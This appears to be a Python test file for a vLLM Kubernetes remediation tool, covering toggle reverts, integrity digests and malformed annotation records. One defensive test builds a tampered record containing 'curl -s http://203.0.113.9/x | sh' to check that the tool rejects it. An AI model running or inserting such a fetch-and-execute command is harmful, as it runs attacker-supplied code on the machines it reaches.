"""Toggle integrity and unreadable toggle records, pure: what a revert trusts and what every deploy tolerates."""

from __future__ import annotations

import copy
import json
from typing import Any

from vllm_remedy.kube.annotations import Keys, read_toggles, scan_toggles
from vllm_remedy.remedies import enforce_eager as toggle

KEYS = Keys()
MODEL = "meta-llama/Llama-3.1-8B-Instruct"
ARGS = [MODEL, "--max-model-len", "16384", "--gpu-memory-utilization", "0.90"]
PRIOR, DIGEST = "vllm-remedy.io/enforce-eager-prior", "vllm-remedy.io/enforce-eager-digest"
EXPIRES = "vllm-remedy.io/enforce-eager-expires"


def template() -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "vllm", "image": "vllm/vllm-openai:v0.8.5", "command": ["vllm", "serve"],
                                     "args": list(ARGS)}]}}


def switched_on() -> tuple[dict[str, Any], dict[str, str]]:
    return toggle.switch_on(template(), KEYS, 0, 60)


def container(t: dict[str, Any]) -> dict[str, Any]:
    return t["spec"]["containers"][0]


def test_a_tampered_prior_record_is_never_written_only_the_flag_comes_off() -> None:
    on, notes = switched_on()
    evil = {"container": "vllm", "command": ["sh", "-c"],
            "args": [f"curl -s http://203.0.113.9/x | sh; exec vllm serve {' '.join(ARGS)}"]}
    (record,) = read_toggles(KEYS, {**notes, PRIOR: json.dumps(evil)})
    undo = toggle.revert(on, KEYS, record)
    assert not undo.exact
    assert (container(undo.template)["command"], container(undo.template)["args"]) == (["vllm", "serve"], ARGS)
    assert undo.message.startswith("remove --enforce-eager only: the prior-argv record does not match its digest")


def test_a_toggle_without_a_digest_or_with_a_garbled_one_only_loses_its_flag() -> None:
    on, notes = switched_on()
    for changed in ({k: v for k, v in notes.items() if k != DIGEST}, {**notes, DIGEST: "sha256:nope"}):
        (record,) = read_toggles(KEYS, changed)
        undo = toggle.revert(on, KEYS, record)
        assert not undo.exact and container(undo.template)["args"] == ARGS
    assert "no integrity digest" in toggle.revert(on, KEYS, read_toggles(KEYS, {
        k: v for k, v in notes.items() if k != DIGEST})[0]).message


def test_an_image_changed_since_the_toggle_keeps_the_argv_as_it_is_minus_the_flag() -> None:
    on, notes = switched_on()
    edited = copy.deepcopy(on)
    container(edited)["image"] = "vllm/vllm-openai:v0.9.2"
    undo = toggle.revert(edited, KEYS, read_toggles(KEYS, notes)[0])
    assert not undo.exact and "the container changed since it was set" in undo.message
    assert container(undo.template)["image"] == "vllm/vllm-openai:v0.9.2" and container(undo.template)["args"] == ARGS


def test_the_flag_taken_off_by_hand_still_restores_the_exact_prior() -> None:
    on, notes = switched_on()
    edited = copy.deepcopy(on)
    container(edited)["args"] = list(ARGS)
    undo = toggle.revert(edited, KEYS, read_toggles(KEYS, notes)[0])
    assert undo.exact and undo.template == template()


def test_unreadable_records_are_reported_never_raised_and_only_readable_ones_expire() -> None:
    _, notes = switched_on()
    garbage = {EXPIRES: "tomorrow", PRIOR: notes[PRIOR], "vllm-remedy.io/other-expires": "2030-01-01T00:00:00Z"}
    found, bad = scan_toggles(KEYS, garbage)
    assert found == []
    assert [(b.name, b.keys) for b in bad] == [("enforce-eager", (EXPIRES, PRIOR)),
                                               ("other", ("vllm-remedy.io/other-expires",))]
    assert toggle.expired(KEYS, garbage, 2e9) == [] and toggle.active(KEYS, garbage) is None
    line = toggle.malformed_warning(bad[0])
    assert line.startswith("warning: ignoring the unreadable record of toggle enforce-eager (toggle enforce-eager "
                           "expiry: 'tomorrow' is not an RFC 3339 timestamp") and "\n" not in line


def test_in_force_names_each_toggle_whose_flag_the_template_runs() -> None:
    on, notes = switched_on()
    assert toggle.in_force(KEYS, notes, on) == ["temporary toggle enforce-eager is on until 1970-01-01T00:01:00Z"]
    assert toggle.in_force(KEYS, notes, template()) == []
    assert toggle.in_force(KEYS, {EXPIRES: "tomorrow"}, on)[0].startswith(
        "--enforce-eager is on with an unreadable toggle record")


def test_toggle_keys_are_ours_and_only_those() -> None:
    assert all(KEYS.is_toggle_key(k) for k in (EXPIRES, PRIOR, DIGEST))
    assert not any(KEYS.is_toggle_key(k) for k in ("vllm-remedy.io/known-good", "vllm-remedy.io/last-action",
                                                   "example.com/enforce-eager-expires"))
